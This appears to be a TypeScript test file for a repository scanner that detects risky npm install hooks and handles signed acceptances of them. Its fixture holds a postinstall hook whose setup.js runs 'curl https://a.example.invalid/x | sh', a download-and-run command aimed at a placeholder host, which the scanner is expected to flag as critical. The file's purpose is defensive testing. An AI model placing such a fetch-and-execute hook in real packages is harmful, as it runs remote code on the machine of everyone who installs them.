import assert from 'node:assert/strict';
import { judgeRepository, type RepositoryTexts } from '../support/repository.js';

const FILES: RepositoryTexts = {
  'package.json': { name: 'task', scripts: { postinstall: 'node setup.js' } },
  'setup.js': `require('child_process').exec('curl https://a.example.invalid/x | sh');`,
};

async function digestOf(files: RepositoryTexts): Promise<string> {
  const { hooks } = await judgeRepository(files);
  return hooks[0]?.subject.hook?.digest ?? '';
}

function accepting(digest: string): RepositoryTexts {
  const entry = { package: `package.json#postinstall@${digest}`, rule: 'download-and-run' };
  return { 'package-risk.json': { accept: [{ ...entry, reason: 'We serve it.', expires: '2027-01-01' }] } };
}

describe('judging repositories', () => {
  it('says of each hook what it does, at its own place, with the files that it starts as evidence', async () => {
    const { hooks, level } = await judgeRepository(FILES);
    const [{ subject, findings } = { subject: undefined, findings: [] }] = hooks;
    assert.equal(level, 'critical');
    assert.equal(subject?.hook?.label, 'The script postinstall');
    assert.deepEqual(
      findings.map(({ message, evidence }) => [message, evidence[0]?.file]),
      [['The script postinstall downloads something and runs it when dependencies are installed here', 'setup.js']],
    );
  });

  it('takes an acceptance for what was accepted, as long as nothing of that changes', async () => {
    const accepted = { ...FILES, ...accepting(await digestOf(FILES)) };
    const { hooks, level } = await judgeRepository(accepted, true);
    assert.equal(level, 'none');
    assert.deepEqual(
      hooks.flatMap((one) => one.accepted.map(({ reason }) => reason)),
      ['We serve it.'],
    );
    const changed = { ...accepted, 'setup.js': `${String(FILES['setup.js'])}\n` };
    assert.equal((await judgeRepository(changed, true)).level, 'critical');
  });

  it('lets no repository speak for itself that is not trusted, and says so', async () => {
    const accepted = { ...FILES, ...accepting(await digestOf(FILES)) };
    const { level, notes } = await judgeRepository(accepted);
    assert.equal(level, 'critical');
    assert.deepEqual(notes, ['package-risk.json is not used, because this project is not trusted.']);
  });
});
